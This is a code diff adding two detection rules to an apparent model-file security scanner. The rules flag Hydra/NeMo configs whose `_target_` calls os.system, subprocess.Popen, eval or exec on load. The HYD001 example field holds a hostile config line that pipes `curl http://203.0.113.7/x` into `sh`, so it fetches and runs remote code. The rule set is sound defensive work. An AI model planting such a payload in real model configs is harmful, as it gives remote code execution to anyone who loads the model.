@@ -82,6 +82,26 @@ pub static DEP002: Rule = Rule {
     references: &["CWE-1395"],
 };
 
+pub static HYD001: Rule = Rule {
+    id: "HYD001",
+    severity: Severity::Critical,
+    title: "Hydra config instantiates a dangerous callable",
+    what: "A YAML or JSON config (NeMo's `model_config.yaml` inside a `.nemo` archive, a Hydra config beside the weights) has a `_target_` naming a callable in the process, code-evaluation, file or network families (`os.system`, `subprocess.Popen`, `builtins.eval`, `builtins.exec`, …; the same table as pickles and Keras objects). `hydra.utils.instantiate` imports it and calls it with the node's other keys as arguments.",
+    why: "NeMo and other Hydra-based loaders instantiate the model's config when it is restored: the call runs on load, with the loader's privileges.",
+    example: "`model_config.yaml` in a `.nemo` tar with `_target_: os.system` and `_args_: [\"curl http://203.0.113.7/x | sh\"]`.",
+    references: &["CVE-2025-23304", "CWE-94", "CWE-470"],
+};
+
+pub static HYD002: Rule = Rule {
+    id: "HYD002",
+    severity: Severity::Warning,
+    title: "Hydra config instantiates a callable outside the usual model libraries",
+    what: "A `_target_` in a YAML or JSON config names a callable whose package is not one model configs instantiate (NeMo, PyTorch, torchaudio, torchvision, Lightning, transformers, Megatron, Apex, torchmetrics, OmegaConf, Hydra, SentencePiece, tokenizers, timm, PEFT).",
+    why: "Instantiation imports the package and calls the target: code the reviewer has not seen runs on load. Review it, then silence the rule for this path in probity.toml.",
+    example: "`_target_: mylab.callbacks.Upload` in `model_config.yaml`.",
+    references: &["CWE-470"],
+};
+
 pub static RULES: &[&Rule] = &[
-    &CFG001, &CFG002, &CFG003, &CFG004, &CFG005, &CFG006, &DEP001, &DEP002,
+    &CFG001, &CFG002, &CFG003, &CFG004, &CFG005, &CFG006, &DEP001, &DEP002, &HYD001, &HYD002,
 ];
